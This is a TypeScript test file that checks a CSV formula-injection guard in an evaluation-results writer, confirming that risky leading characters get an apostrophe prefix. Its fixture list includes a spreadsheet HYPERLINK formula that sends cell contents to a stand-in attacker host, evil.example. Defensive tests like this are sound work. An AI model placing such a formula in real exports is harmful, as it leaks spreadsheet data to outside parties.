import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { ResultsWriter } from '../../src/results/append-results.js';
import { readResults } from '../../src/results/read-results.js';
import type { ResultRecord } from '../../src/results/result-record.js';
import { guardFormula, writeResultsCsv } from '../../src/results/write-csv.js';
import { record } from './helpers.js';

/** Answers a spreadsheet would run as formulas, and what results.csv must hold for each. */
const HOSTILE: Array<[answer: string, cell: string]> = [
  ['=HYPERLINK("http://evil.example/?"&A1,"click")', `'=HYPERLINK("http://evil.example/?"&A1,"click")`],
  ['+1', "'+1"],
  ['@SUM(A1)', "'@SUM(A1)"],
  ['-2+3', "'-2+3"],
  ['\tx', "'\tx"],
  ['\rx', "'\rx"],
  ['a=1', 'a=1'],
  ["'quoted already", "'quoted already"],
  ['', ''],
];

let folder: string;
beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), 'csv-guard-'));
});
afterEach(() => rmSync(folder, { recursive: true, force: true }));

async function* from(records: ResultRecord[]): AsyncGenerator<ResultRecord> {
  yield* records;
}

describe('the formula guard', () => {
  it('prefixes text that starts with = + - @ tab or CR, and nothing else', () => {
    for (const [answer, cell] of HOSTILE) expect(guardFormula(answer)).toBe(cell);
  });

  it('guards text columns in results.csv, reads back with csv-parse, and leaves results.jsonl raw', async () => {
    const records = HOSTILE.map(([answer], index) =>
      record(`k${index}`, { answer, input: answer === '' ? 'q' : `${answer} (as input)`, error: null }),
    );
    const jsonl = join(folder, 'results.jsonl');
    const writer = new ResultsWriter(jsonl);
    for (const entry of records) writer.append(entry);
    writer.close();
    const csv = join(folder, 'results.csv');
    await writeResultsCsv(csv, readResults(jsonl));

    const rows = parse(readFileSync(csv), { columns: true }) as Array<Record<string, string>>;
    expect(rows.map((row) => row.answer)).toEqual(HOSTILE.map(([, cell]) => cell));
    expect(rows[0].input).toBe(`'${records[0].input}`);
    const raw: string[] = [];
    for await (const entry of readResults(jsonl)) raw.push(entry.answer ?? '');
    expect(raw).toEqual(HOSTILE.map(([answer]) => answer));
  });

  it('leaves numbers, booleans and JSON cells alone, negative ones included', async () => {
    const path = join(folder, 'results.csv');
    const negative = record('k1', {
      cost_usd: -0.25,
      latency_ms: -1.5,
      usage_raw: -3,
      status: 'error',
      error: { kind: 'transient', message: '-ECONNRESET', status: -1, code: '+42' },
      input: [{ role: 'user', content: '=1+1' }],
    });
    await writeResultsCsv(path, from([negative]));
    const [row] = parse(readFileSync(path), { columns: true }) as Array<Record<string, string>>;
    expect(row).toMatchObject({
      cost_usd: '-0.25',
      latency_ms: '-1.5',
      usage_raw: '-3',
      error_status: '-1',
      stream: 'false',
      error_message: "'-ECONNRESET",
      error_code: "'+42",
      input: '[{"role":"user","content":"=1+1"}]',
    });
  });
});
